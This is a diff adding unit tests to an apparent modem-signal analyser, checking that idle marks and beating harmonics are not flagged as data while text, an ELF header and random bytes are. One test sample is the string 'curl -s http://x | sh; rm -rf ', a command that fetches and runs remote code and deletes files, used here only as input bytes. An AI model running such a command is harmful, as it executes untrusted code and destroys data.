@@ -230,6 +230,36 @@ def test_a_standard_plan_is_reported_only_with_frames_above_chance() -> None:
     assert not _bell_202(dotting).flagged
 
 
+def _generic(data: bytes) -> Transmission:
+    keying = Keying(0.0, 3.0, 1977.5, 4273.4, 1920.0, 0.9, 1500)
+    return Transmission(keying, "FSK", Demodulated(data, 1977.5, 4273.4, len(data), 0.96))
+
+
+def test_an_idle_mark_read_as_bytes_is_not_data() -> None:
+    rng = np.random.default_rng(7)
+    # nearly all one bits: 0xFF with a few glitches (an FM voice read as a 1920 Bd modem)
+    glitches = np.full(168, 0xFF, dtype=np.uint8)
+    spots = rng.choice(168, 60, replace=False)
+    glitches[spots] &= ~(np.uint8(1) << rng.integers(0, 8, 60).astype(np.uint8))
+    assert not _generic(glitches.tobytes()).flagged
+    # text and random bytes of the same length are data
+    text = (b"The quick brown fox jumps over the lazy dog. " * 4)[:168]
+    assert _generic(text).flagged
+    assert _generic(rng.integers(0, 256, 168, dtype=np.uint8).tobytes()).flagged
+
+
+def test_a_short_run_of_a_few_values_is_not_data() -> None:
+    # two harmonics beating at 200 Hz, framed as 29 bytes of three values
+    beat = bytes([0xFF, 0x00, 0xFE, 0x00] * 7 + [0xFE])
+    assert not _generic(beat).flagged
+    # 29 bytes of text, of an ELF header, of random bytes stay data
+    assert _generic(b"curl -s http://x | sh; rm -rf ").flagged
+    elf = bytes.fromhex("7f454c4602010100000000000000000003003e0001000000401000000000")[:29]
+    assert _generic(elf).flagged
+    rng = np.random.default_rng(8)
+    assert _generic(rng.integers(0, 256, 29, dtype=np.uint8).tobytes()).flagged
+
+
 def test_music_alone_is_not_a_modem() -> None:
     assert not codes(music(12.0, seed=5))
 
